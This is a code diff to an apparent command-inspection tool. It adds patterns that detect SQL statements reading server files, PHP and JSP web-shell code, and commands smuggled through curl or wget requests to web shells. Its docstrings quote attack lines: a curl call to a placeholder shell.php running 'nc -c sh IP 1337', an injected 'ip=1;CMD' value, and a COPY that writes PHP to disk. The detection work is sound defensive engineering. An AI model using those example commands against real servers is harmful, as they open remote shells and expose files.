@@ -31,6 +31,7 @@ from .options import option_values as _option_values
 
 __all__ = [
     "COMMAND_VARIABLES",
+    "PAGE_CODE",
     "SERVER_COMMAND",
     "TERMINALS",
     "Perhaps",
@@ -39,6 +40,7 @@ __all__ = [
     "container_verb",
     "git_runs_setting",
     "sed_runs_input",
+    "sql_read_sources",
     "sql_write_targets",
     "unknown_program",
 ]
@@ -259,27 +261,69 @@ _SQL_WRITES = lazy_compile(
     r"\b(?:general_log_file|slow_query_log_file)\s*=\s*['\"]([^'\"]{1,4096})|\blo_export\s*\([^,)]{1,200},\s*'([^']{1,4096})'",
     re.IGNORECASE | re.MULTILINE,
 )
+_SQL_READS = lazy_compile(
+    r"\b(?:load_file|pg_read_file|pg_read_binary_file|lo_import)\s*\(\s*N?['\"]([^'\"]{1,4096})['\"]|"
+    r"\bLOAD\s+DATA\s+(LOCAL\s+)?INFILE\s+['\"]([^'\"]{1,4096})['\"]|"
+    r"\bBULK\s+INSERT\s+[\w.\[\]\"]{1,300}\s+FROM\s+N?'([^']{1,4096})'|\bOPENROWSET\s*\(\s*BULK\s+N?'([^']{1,4096})'",
+    re.IGNORECASE,
+)
+_STATEMENT_PART = lazy_compile(r"'[^']*'?|[^';]+|;")
+"""A quoted literal (``''`` inside one reads as two literals side by side), a run of other text, a ``;``."""
 _COPY_WORD = lazy_compile(r"\bcopy\b", re.IGNORECASE)
 _COPY_TO = lazy_compile(r"\bTO\s+'([^']{1,4096})'", re.IGNORECASE)
+_COPY_FROM = lazy_compile(r"\bFROM\s+'([^']{1,4096})'", re.IGNORECASE)
 _PSQL_COPY_TO = lazy_compile(r"\bto\s+'?([^'\s;]+)", re.IGNORECASE)
+PAGE_CODE = lazy_compile(r"<\?php|<\?=|<%[@=!]?\s*\w", re.IGNORECASE)
+"""The code of a page a web server runs (PHP's ``<?php``, JSP's and ASP's ``<%``): what a web shell is."""
+
+
+def _copy_statements(text: str) -> Iterator[tuple[str, int, bool]]:
+    """Each ``COPY`` statement of ``text``: the statement, where its ``COPY`` word ends, and whether it is
+    psql's ``\\copy`` (the client's, not the server's). Statements end at a ``;`` outside quotes, so
+    ``COPY (SELECT '<?php …; ?>') TO 'F'`` is one: one pass over the text, whatever it repeats."""
+    parts: list[str] = []
+    for match in _STATEMENT_PART.finditer(text):
+        if match.group(0) != ";":
+            parts.append(match.group(0))
+            continue
+        yield from _copy_statement("".join(parts))
+        parts = []
+    yield from _copy_statement("".join(parts))
+
+
+def _copy_statement(statement: str) -> Iterator[tuple[str, int, bool]]:
+    copy = _COPY_WORD.search(statement)
+    if copy is not None:
+        yield statement, copy.end(), statement[copy.start() - 1 : copy.start()] == "\\"
 
 
 def sql_write_targets(text: str) -> list[str]:
     """The files SQL writes: ``SELECT … INTO OUTFILE 'F'``, ``COPY … TO 'F'``, psql's ``\\copy … to F`` and
     ``\\o F``, MySQL's query log moved (``SET GLOBAL general_log_file='F'``), PostgreSQL's
-    ``lo_export(OID, 'F')``. A ``COPY`` and its ``TO`` are paired within one statement (between
-    semicolons), searched from the statement's first ``COPY``: one pass, whatever the text repeats."""
+    ``lo_export(OID, 'F')``. A ``COPY`` and its ``TO`` are paired within one statement, searched from the
+    statement's first ``COPY`` (:func:`_copy_statements`)."""
     targets = [next(group for group in match.groups() if group) for match in _SQL_WRITES.finditer(text)]
-    for statement in text.split(";"):
-        copy = _COPY_WORD.search(statement)
-        if copy is None:
-            continue
-        targets += [match.group(1) for match in _COPY_TO.finditer(statement, copy.end())]
-        if statement[copy.start() - 1 : copy.start()] == "\\":  # psql's \copy t to out.csv
-            unquoted = _PSQL_COPY_TO.search(statement, copy.end())
+    for statement, start, client in _copy_statements(text):
+        targets += [match.group(1) for match in _COPY_TO.finditer(statement, start)]
+        if client:  # psql's \copy t to out.csv
+            unquoted = _PSQL_COPY_TO.search(statement, start)
             if unquoted is not None and unquoted.group(1) not in targets:
                 targets.append(unquoted.group(1))
     return targets
+
+
+def sql_read_sources(text: str) -> list[tuple[str, bool]]:
+    """The files SQL reads, each with whether the server reads it from its own disk: ``LOAD_FILE('F')``,
+    ``pg_read_file('F')``, ``lo_import('F')``, ``LOAD DATA INFILE 'F'``, ``COPY t FROM 'F'``, SQL Server's
+    ``BULK INSERT t FROM 'F'`` and ``OPENROWSET(BULK 'F')``. ``LOAD DATA LOCAL INFILE`` and psql's
+    ``\\copy … FROM`` read the client's file."""
+    sources: list[tuple[str, bool]] = []
+    for match in _SQL_READS.finditer(text):
+        path = next(group for group in match.group(1, 3, 4, 5) if group)
+        sources.append((path, match.group(2) is None))
+    for statement, start, client in _copy_statements(text):
+        sources += [(match.group(1), not client) for match in _COPY_FROM.finditer(statement, start)]
+    return sources
 
 
 SERVER_COMMAND = lazy_compile(
@@ -302,6 +346,8 @@ def _sql_server(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
     """sqlcmd, osql, isql: ``-Q``/``-q`` queries and fed text whose ``xp_cmdshell 'CMD'`` runs CMD."""
     texts = [*fed, *_option_values(values, frozenset({"-Q", "-q", "--query"}))]
     yield from _server_commands(texts)
+    for text in texts:
+        yield from (f"cat {shlex.quote(path)}" for path, _ in sql_read_sources(text))
 
 
 _SQL_PROGRAM = lazy_compile(r"\b(?:FROM|TO)\s+PROGRAM\s+'((?:[^']|''){1,4096})'", re.IGNORECASE)
@@ -318,6 +364,8 @@ def _bang_lines(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
             yield match.group(1).replace("''", "'")
         for target in sql_write_targets(text):
             yield f": >> {shlex.quote(target)}"
+        for path, _ in sql_read_sources(text):
+            yield f"cat {shlex.quote(path)}"  # the server's or the client's read of the file
         for line in re.split(r"[\n;]", text):
             line = line.strip().removeprefix("\\")
             if line.startswith("!") and len(line) > 1:
@@ -1191,6 +1239,18 @@ def _rpm(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
             yield match.group(1)
 
 
+def _web_shell(program: str) -> _Extract:
+    """``curl 'http://h/shell.php?cmd=nc -c sh IP 1337'``, ``curl -d 'ip=1;CMD' h/ping``: the command a
+    request hands to another host's shell (a web shell's parameter, an injected command)."""
+
+    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
+        from .web_payloads import shell_commands  # only for a request: most commands never need it
+
+        yield from shell_commands(program, values)
+
+    return extract
+
+
 def _csvtool(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
     """``csvtool call CMD FILE``: CMD runs for each row."""
     words = [v for v in values if not v.startswith("-")]
@@ -1345,6 +1405,8 @@ _CARRIERS: dict[str, _Extract] = {
     "run-parts": _run_parts,
     **dict.fromkeys(("rpm", "rpmdb", "rpmquery", "rpmverify", "rpmbuild", "rpmspec"), _rpm),
     "csvtool": _csvtool,
+    **{name: _web_shell(name) for name in ("curl", "curlie", "wget", "wget2", "http", "https", "xh", "xhs")},
+    "httpie": _web_shell("httpie"),
     "perlbug": _by_options("-e"),
     "slsh": _program_code("-e"),
     "script": _script,
